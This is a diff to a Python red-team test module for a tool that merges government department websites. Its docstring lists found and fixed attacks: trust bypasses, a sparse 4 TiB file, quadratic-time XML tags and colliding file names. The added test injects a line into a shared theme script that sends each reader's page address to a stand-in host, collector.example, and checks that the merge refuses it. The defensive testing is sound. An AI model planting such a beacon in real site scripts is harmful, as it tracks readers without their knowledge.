@@ -1,9 +1,58 @@
-"""Round twenty-seven (b) of the adversarial review (issue 24): the merge as a compromised department CI job and a local
-user on the merging machine would attack it — the incremental merge's trust (platform/merge_state.py), what a unit's
-output may hold that no build writes (sizes, names). Each test goes through the real command and failed on main before
-its fix.
-"""
+"""Round twenty-seven (b) of the adversarial review (issue 24): the merge as a compromised department (or government)
+CI job and a local user on the merging machine would attack it — the incremental merge's trust (platform/merge_state.py),
+what a unit's output may hold that no build writes (sizes, names where the merge writes, the theme's scripts), and how
+long reading it takes. Each test goes through the real command and failed on main (50556cb) before its fix.
 
+Fixed —
+- (content/merge_facts.py `public_copy`, `PUBLIC_FILE`) the incremental merge trusted a unit's copy of an attachment
+  content/ published (a 行政许可 listing whose rows another unit's withheld table holds: let through unread for withheld
+  text because content/ publishes that very file) after the office replaced or withdrew it in content/ and the
+  government rebuilt alone: exit 0, the withheld rows published, where a first merge refuses the file (E700). Round
+  26c's `granted` record now lists such files too (their SHA-256 and size), asked again before any unit is trusted.
+- (platform/merge.py `_past_reading`) a sparse file of 4 TiB (`truncate -s 4T`, nothing on the disk) listed in a unit's
+  hand-over with any SHA-256 was hashed before anything looked at it: hours. A file past what the checks read (200 MB)
+  that is not the size of a `checked:` attachment of content/ is E700 from its size, unread.
+- (content/unit_layout.py `belongs_to`, platform/merge.py `_through_assembled`) the government's file named `jyj` (a
+  department's folder) ended the merge in 内部错误 (FileExistsError); a page in a folder named catalogue.json,
+  jyj/sitemap.xml.gz or gov/catalogue.json.assembling (files the assembly writes, and its new file beside each) let every
+  unit be verified and the assembly end in IsADirectoryError; jyj/Sitemap.XML/ merged (on IIS or a copy to Windows it
+  and the assembly's jyj/sitemap.xml are one name). E700 naming unit and file now.
+- (rules/rendered.py `_XML_ATTRIBUTE`, `_element_texts`) a unit's feed.xml with a start tag of 300,000 name characters
+  (or many unclosed <id>s) was read in quadratic time by the merge's feed checks (40,000: 25 s twice; 300,000: past
+  the test's minute; a megabyte: hours). Linear now, the same matches (compared on random tags).
+- (platform/merge.py `_unsafe_for_readers`) the government's assets/ (every page of every department loads its
+  scripts and style sheets) were read for personal data only: a job that added a line to the theme folder's
+  reading.js sending each reader's address to another host merged with exit 0. They must now be, byte for byte, files
+  of the installed theme or of the theme folder's assets/ (overrides/assets/, whose scripts the check holds to reviewed
+  digests): E700 otherwise (tests/test_redteam6.py's font and logo now come from a theme folder, as a build copies them).
+
+Held (tried through the real commands, nothing reached site/) —
+- (run) `.htaccess`, `web.config` (IIS reads one in every folder) in a unit's folders: E700, not a published type;
+  `x.php.pdf` holding a page: E700 (not a PDF; the shipped servers are nginx and IIS, no Apache handler).
+- (read from the code, round 9/10/26c tests cover the cases) trust: a trusted unit's file changed in place (its change
+  time moves past `.merged.settled`), replaced by a copy with its old time, hard-linked a third time (the next change
+  moves its change time), a kept hand-over file edited: read again. With no site/ (CI) nothing is trusted, a forged
+  record with `"site": null` included (`_settled` needs the site's identity). Every check of a trusted unit's file
+  depends only on its own hashed files and on what the trust context or the granted list keys (withheld pages,
+  digests, passages, allowances, checked digests, content's public text and front matter, now public attachments, the
+  day, the site's address, the theme's files, the checks' code).
+- (read, not tried on Windows) a government path with dotless ı for i (`jıyj/`): Windows' upcase table leaves U+0131
+  as it is, and casefold keeps it apart too; a colon (`x.html:a.pdf`, an NTFS stream): the tools that bring a site to
+  Windows (zip extraction, Samba) replace or mangle ":".
+- Pages: digit groups, references, tags, Chinese numerals, comments and unclosed tags in 320,000-character pages are read
+  in time proportional to the page (about 4 s at the slowest); a feed's unclosed quotes and `</id` runs likewise.
+
+Left —
+- A local user who can write build/units/ can write the published files through their hard links at once, forge
+  `.merged.json` and `.merged.settled` (so that the next merge trusts what they changed), or stall a merge with a
+  live pid in `.merged.settled.removing`: closing this needs site/ not to share writable files with build/units/ (a
+  decision for the lead, open since round nine).
+- A file renamed over a unit's file between the walk's stat and its link is hashed as it is (a sparse one: long); the
+  check of its size uses the walked file.
+- A unit page up to 64 MB (MAX_READ_BYTES) is read whole for numbers: linear, but about a second a 100,000 characters
+  of Chinese numerals; many such pages make a merge of hours. No build writes a page of that size; a lower bound is a
+  decision (a platform's category listings).
+"""
 from __future__ import annotations
 
 import json
@@ -133,3 +182,17 @@ def test_a_feed_whose_start_tag_holds_a_long_run_is_read_in_time(platform):
     output = done.stdout + done.stderr
     assert done.returncode == 1 and "build/units/jyj/jyj/feed.xml:1: E700 " in output and "enclosure" in output, output
     assert "Traceback" not in output
+
+
+def test_the_governments_theme_script_rewritten_is_refused(platform):
+    """The government's job adds a line to a script of the theme folder (assets/javascripts/disclosure/reading.js, which
+    every page of every department loads) sending each reader's address to another host: on main it was read for
+    personal data only and merged with exit 0. The government's assets/ must be, byte for byte, files of the
+    installed theme or of the theme folder (overrides/assets/): E700 otherwise."""
+    script = platform / "build/units/gov/assets/javascripts/disclosure/reading.js"
+    text = script.read_text(encoding="utf-8")
+    script.unlink()   # a new file: the unit's files are hard links to site/'s after a merge
+    script.write_text(text + '\nnew Image().src = "https://collector.example/" + encodeURIComponent(location.href);\n',
+                      encoding="utf-8")
+    seal_unit_manifest(platform / "build/units/gov", "gov")
+    refused(platform, "build/units/gov/assets/javascripts/disclosure/reading.js:1: E700 ", "主题目录")
